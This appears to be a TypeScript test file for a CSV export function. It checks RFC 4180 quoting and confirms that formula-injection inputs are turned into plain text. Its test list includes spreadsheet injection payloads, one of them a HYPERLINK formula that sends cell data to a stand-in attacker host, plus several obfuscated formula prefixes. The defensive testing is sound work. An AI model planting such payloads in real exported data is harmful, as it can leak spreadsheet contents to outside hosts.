import { describe, expect, test } from "bun:test";
import { csvLine } from "../../../src/measuring/conversations/export.ts";
import { seededRandom } from "../../../src/measuring/eval/seeded-random.ts";

/** RFC 4180, read letter by letter. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const letter = text.charAt(at);
    if (isQuoted && letter === '"' && text[at + 1] === '"') {
      cell += '"';
      at++;
    } else if (letter === '"') isQuoted = !isQuoted;
    else if (isQuoted) cell += letter;
    else if (letter === ",") {
      row.push(cell);
      cell = "";
    } else if (letter === "\r" && text[at + 1] === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
      at++;
    } else cell += letter;
  }
  expect([isQuoted, row, cell]).toEqual([false, [], ""]);
  return rows;
}

describe("a cell of CSV", () => {
  test.each([
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "no"', '"say ""no"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["", ""],
    ["a-b = c + d @ e", "a-b = c + d @ e"],
  ])("%j is written as %j", (text, written) => {
    expect(csvLine([text])).toBe(`${written}\r\n`);
  });

  test.each([
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "\tplain",
  ])("%j is text for a spreadsheet, and not calculated", (text) => {
    expect(readCsv(csvLine([text]))).toEqual([[`'${text}`]]);
  });

  test("what is no text is written as it is", () => {
    expect(csvLine([true, false, null, -3])).toBe("true,false,,-3\r\n");
  });

  test("whatever is in cells, they are read as they were written", () => {
    const random = seededRandom(5);
    const letters = ['"', ",", "\n", "\r", "=", "a", " ", "é", "💥", ";", "'", "\t"];
    const any = () =>
      Array.from({ length: Math.floor(random() * 8) }, () => letters[Math.floor(random() * letters.length)]);
    const rows = Array.from({ length: 2000 }, () => [0, 1, 2].map(() => any().join("")));
    const read = readCsv(rows.map((row) => csvLine(row)).join(""));
    const plain = (cells: string[][]) => cells.map((row) => row.map((cell) => cell.replace(/^'+/, "")));
    expect(plain(read)).toEqual(plain(rows));
  });
});
